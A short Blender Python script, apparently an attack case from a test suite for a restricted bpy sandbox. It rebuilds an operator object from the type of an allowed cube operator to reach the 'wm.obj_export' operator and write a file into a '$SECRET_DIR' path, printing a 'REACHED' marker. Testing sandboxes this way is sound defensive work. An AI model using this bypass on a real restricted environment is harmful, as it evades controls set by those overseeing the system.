# attack: the class of an operator object makes any other operator
# family: files
import bpy

bpy.ops.mesh.primitive_cube_add()
Operator = type(bpy.ops.mesh.primitive_cube_add)
export = Operator("wm", "obj_export")
print("REACHED", export.idname())
export(filepath="$SECRET_DIR/b-files-11.obj")
